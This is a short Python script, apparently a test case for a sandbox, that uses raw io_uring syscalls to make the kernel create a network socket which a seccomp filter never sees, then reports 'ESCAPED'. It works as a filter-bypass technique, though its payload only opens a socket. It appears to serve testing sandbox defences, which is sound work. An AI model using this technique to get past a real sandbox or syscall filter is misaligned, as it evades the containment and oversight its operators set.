"""Let the kernel make the calls: it reads them from shared memory (io_uring), unseen by a filter; here, a socket."""

ATTACK = {"stopped_by": ["seccomp", "limits"], "controls": [["none", "limits"]]}
import ctypes
import mmap
import os
import socket
import struct

SETUP, ENTER, GET_EVENTS, SOCKET, SHOWN_ENTRIES = 425, 426, 1, 45, 0x10000000
libc = ctypes.CDLL(None, use_errno=True)


def through_a_ring(entry):
    """Return the result of one call, which is written as an entry of 64 bytes."""
    facts = ctypes.create_string_buffer(120)
    ring = libc.syscall(SETUP, 1, facts)
    if ring < 0:
        raise PermissionError(ctypes.get_errno(), "no ring")
    numbers = struct.unpack("30I", facts)
    tail, array, results = numbers[11], numbers[16], numbers[25]
    both, entries = mmap.mmap(ring, 4096), mmap.mmap(ring, 4096, offset=SHOWN_ENTRIES)
    entries[:64] = entry
    both[array : array + 4], both[tail : tail + 4] = struct.pack("I", 0), struct.pack("I", 1)
    libc.syscall(ENTER, ring, 1, 1, GET_EVENTS, None, 0)
    return struct.unpack_from("Qi", both, results)[1]


def target(x):
    try:
        os.setuid(65534)  # rings count as locked memory; root may lock any amount, and this is about everybody
    except OSError:
        pass  # Not root, or root of a user namespace, for whom the limit counts.
    entry = struct.pack("BBHiQQII", SOCKET, 0, 0, socket.AF_INET, socket.SOCK_DGRAM, 0, 0, 0).ljust(64, b"\0")
    made = through_a_ring(entry)
    if made > 0 and socket.socket(fileno=made).family == socket.AF_INET:
        print("ESCAPED: a socket that nobody saw us ask for")
    return x
